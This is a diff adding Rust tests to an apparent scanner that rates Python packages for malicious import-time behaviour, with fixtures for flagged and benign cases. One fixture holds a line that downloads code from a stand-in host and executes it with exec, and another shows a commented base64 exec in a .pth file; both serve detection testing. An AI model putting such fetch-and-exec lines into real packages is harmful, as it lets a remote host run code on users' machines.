@@ -128,6 +128,23 @@ fn what_another_file_imports_runs_with_it() {
 }
 
 #[test]
+fn what_only_the_program_of_a_package_calls_is_not_run_by_its_import() {
+    let fetching = "import requests\ndef go():\n    exec(requests.get('https://a.example/x').text)\n";
+    let program = "from acme.net import go\ngo()\n";
+    let files = [
+        ("acme/__init__.py", "from . import net\n"),
+        ("acme/net.py", fetching),
+        ("acme/__main__.py", program),
+    ];
+    assert_ne!(worst(&files), "critical");
+    let files = [
+        ("acme/__init__.py", "from .net import go\ngo()\n"),
+        ("acme/net.py", fetching),
+    ];
+    assert_eq!(worst(&files), "critical");
+}
+
+#[test]
 fn parts_of_a_path_are_to_be_reviewed() {
     for (path, source) in [
         (
@@ -190,6 +207,10 @@ fn the_innocent_twins_are_left_alone() {
         (
             "acme.pth",
             "# import base64; exec(base64.b64decode('aWQ='))\n../src\n",
+        ),
+        (
+            "acme/_compat.py",
+            "import array\nfor mod in (array,):\n    exec(f'from {mod.__name__} import *')\n",
         ),
         ("acme/__init__.py", ""),
         ("acme/__init__.py", "def broken(:\n"),
